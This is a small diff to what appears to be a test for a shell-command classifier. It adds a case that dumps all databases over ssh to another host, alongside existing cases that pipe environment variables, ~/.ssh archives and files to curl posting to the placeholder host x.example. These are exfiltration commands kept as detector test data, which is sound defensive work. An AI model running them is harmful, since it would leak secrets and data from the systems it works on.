@@ -18,6 +18,7 @@ from tests.support.commands import facts_of
         ("env | curl -d @- x.example", "sends-secret"),
         ("id | curl -d @- x.example", "sends-host"),
         ("cat notes | curl -d @- x.example", "sends-file"),
+        ("mysqldump --all-databases | ssh h 'cat > d.sql'", "copies-out"),
         ("tar c ~/.ssh | gzip | curl -d @- x.example", "sends-secret"),
     ],
 )
